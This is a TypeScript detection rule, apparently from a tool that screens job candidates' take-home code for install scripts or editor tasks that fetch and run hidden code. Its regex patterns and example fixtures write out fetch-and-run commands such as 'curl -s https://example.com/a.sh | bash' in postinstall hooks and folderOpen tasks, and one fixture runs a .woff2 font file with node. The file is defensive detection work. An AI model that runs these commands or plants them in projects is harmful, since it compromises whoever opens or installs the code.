import { defineIndicator } from '../../../core/model/indicator.ts';
import type { Askable } from '../../../core/model/observation.ts';
import { all, answered, any, matches } from '../../../core/model/pattern.ts';
import { defineQuestion } from '../../../core/model/question.ts';
import { jointAdvisory2026 } from '../publications/government.ts';
import { gitlab2026 } from '../publications/vendors.ts';
import { unlessTold } from '../retold.ts';

/** Where settings end up that are pasted in place of being dropped. */
const pasted: Askable[] = ['summary', 'message'];
/** What no program is by its name; `.env` is handed to Node beside the program. */
const noProgram = '\\.(?:woff2?|ttf|otf|png|jpe?g|svg|ico|css|env)(?=["\'\\s;&|)\\\\]|$)';
/** Gets something from elsewhere, or makes it readable. */
const gets = 'fetch\\s?\\(|https?[\'"\\\\)]{0,4}\\.(?:get|request)|axios|\\bgot\\(|curl\\s|wget\\s|atob|base64|fromCharCode';
/** Runs what it was given; `process.exit` ends, and `execpath` names who installs. */
const runs =
  '\\beval\\b|\\bFunction\\s?\\(|child_process|\\bexec(?:Sync|File|FileSync)?\\s?\\(|\\bspawn|\\brunIn|_compile|\\bimport\\s?\\(';
/** Commands that fetch and run, decode and run, or run what is no program by its name. */
const loads = `(?:${[
  '(?:curl|wget|iwr|irm)\\s[^\\n]{0,200}\\|\\s{0,3}(?:sudo\\s)?(?:sh|bash|zsh|node|python3?|cmd|iex)\\b(?!\\s{1,3}-{1,2}(?:m|p|e|eval|print)\\b)',
  '\\b(?:sh|bash|zsh)\\s{1,3}(?:-c\\s{1,3})?[\\\\"\']{0,2}(?:<\\(|\\$\\(|`)\\s?(?:curl|wget)\\s',
  `\\bnode(?:\\.exe)?\\s{1,3}(?:--?(?!-?env-file)[\\w=./:@-]{1,60}\\s{1,3}|--env-file(?:-if-exists)?[=\\s][^\\s|]{1,80}\\s{1,3}){0,4}["'\\\\]{0,2}[^\\s|"'\\\\-][^\\s|"'\\\\]{0,120}${noProgram}`,
  `\\bnode(?:\\.exe)?\\s{1,3}(?:-e|-p|--eval|--print)\\b(?=[^\\n]{0,400}(?:${gets}))(?=[^\\n]{0,400}(?:${runs}))`,
  '\\beval\\s?\\(',
  'powershell[^\\n]{0,80}\\s-e(?:nc|c|ncodedcommand)?\\s',
].join('|')})`;

export const question = defineQuestion({
  id: 'code-takehome-runs-code',
  text: 'Does code that the candidate sent run something by itself on opening or installing that it fetches, decodes or hides?',
  stage: 'messages',
  how: 'Open nothing on your own machine. Drop “.vscode/tasks.json” and “package.json” here: they are read as text and nothing is run. Let security look at the rest. Git hooks, formatters, builds, code generators and a task that starts a watcher are a no.',
});

// A command on installing alone is ordinary, as is a task that starts a watcher: only what fetches, decodes or runs a picture or a typeface counts.
export default defineIndicator({
  id: 'code-takehome-runs-code',
  name: 'sent code that fetches or hides something and runs it by itself',
  why: 'A vendor and a joint advisory describe sample projects that start a hidden command once the folder is opened or the packages are installed.',
  status: 'stable',
  category: 'code',
  specificity: 'strong',
  use: 'score',
  attack: ['T1204.002'],
  sources: [
    { ...gitlab2026, where: 'Projects in which an editor’s task runs when the folder is opened' },
    { ...jointAdvisory2026, where: 'How the first code is run: editor tasks and commands on installing' },
  ],
  pattern: any(
    matches(['embedded-part'], `\\brun on (?:opening the folder|installing \\([a-z]{3,12}\\)): [^\\n]{0,120}${loads}`),
    matches(pasted, `"(?:pre|post)?install"\\s{0,4}:\\s{0,4}"[^\\n]{0,120}${loads}${unlessTold}`),
    all(
      matches(pasted, '"runOn"\\s{0,4}:\\s{0,4}"folderOpen"'),
      matches(
        pasted,
        `"command"\\s{0,4}:\\s{0,4}"(?:[^\\n]{0,120}${loads}|node(?:\\.exe)?"\\s{0,4},\\s{0,40}"args"\\s{0,4}:\\s{0,4}\\[\\s{0,40}"[^"\\n]{1,120}${noProgram})`,
      ),
    ),
    answered('code-takehome-runs-code', 'yes'),
  ),
  benign: [
    'A helper of a known tool fetches its program while it is installed.',
    'The candidate’s own machine was tampered with, and the candidate does not know.',
    'A template brought the task along, and nobody looked at it.',
  ],
  ask: [
    'Open nothing of it outside a machine that is thrown away, and show the file to your security team.',
    'Then ask where the project comes from; the candidate may have been used.',
  ],
  examples: {
    notObserved: [
      {
        because: 'Git hooks, a code generator and a build are run on installing everywhere.',
        profiles: [
          {
            'embedded-part': [
              { what: 'script', name: 'Run on installing (prepare): husky' },
              { what: 'script', name: 'Run on installing (postinstall): prisma generate && node scripts/build.js' },
            ],
            summary: ['Sample project'],
            message: [{ text: 'Here is my sample.' }],
            answer: [{ question: 'code-takehome-runs-code', reply: 'no' }],
          },
        ],
      },
      {
        because: 'A task that starts the watcher when the folder is opened.',
        profiles: [
          {
            'embedded-part': [{ what: 'script', name: 'Run on opening the folder: npm run watch' }],
            summary: ['Sample project'],
            message: [{ text: 'Run npm install, then npm test.' }],
            answer: [{ question: 'code-takehome-runs-code', reply: 'no' }],
          },
        ],
      },
      {
        because: 'Somebody who writes about such projects quotes a command, and no task runs it.',
        profiles: [
          {
            'embedded-part': [{ what: 'attachment', name: 'article.pdf' }],
            summary: ['I wrote about samples that run curl https://example.com/a.sh | bash in secret.'],
            message: [{ text: 'My article is attached.' }],
            answer: [{ question: 'code-takehome-runs-code', reply: 'no' }],
          },
        ],
      },
      {
        because: 'Somebody shows what they were sent.',
        profiles: [
          {
            'embedded-part': [{ what: 'attachment', name: 'article.pdf' }],
            summary: ['I wrote about samples.'],
            message: [
              { text: 'Somebody sent me a sample with "postinstall": "curl -s https://example.com/a.sh | bash" in it.' },
              { text: 'My last find was "preinstall": "wget -qO- https://example.com/a | sh", I reported it.' },
            ],
            answer: [{ question: 'code-takehome-runs-code', reply: 'no' }],
          },
        ],
      },
    ],
    observed: [
      {
        because: 'A task runs a typeface as a program when the folder is opened.',
        profiles: [{ 'embedded-part': [{ what: 'script', name: 'Run on opening the folder: node ./public/fonts/a.woff2' }] }],
      },
      {
        because: 'A package fetches a script and runs it while it is installed.',
        profiles: [
          { 'embedded-part': [{ what: 'script', name: 'Run on installing (postinstall): curl -s https://example.com/a.sh | bash' }] },
        ],
      },
      {
        because: 'Pasted settings of an editor.',
        profiles: [
          {
            summary: ['{ "label": "env", "command": "curl -s https://example.com/a.sh | bash", "runOptions": { "runOn": "folderOpen" } }'],
          },
        ],
      },
    ],
    cannotTell: [
      {
        because: 'Only a message was read, and nobody has looked at the sample.',
        profiles: [{ message: [{ text: 'Here is my sample.' }] }],
      },
    ],
  },
});
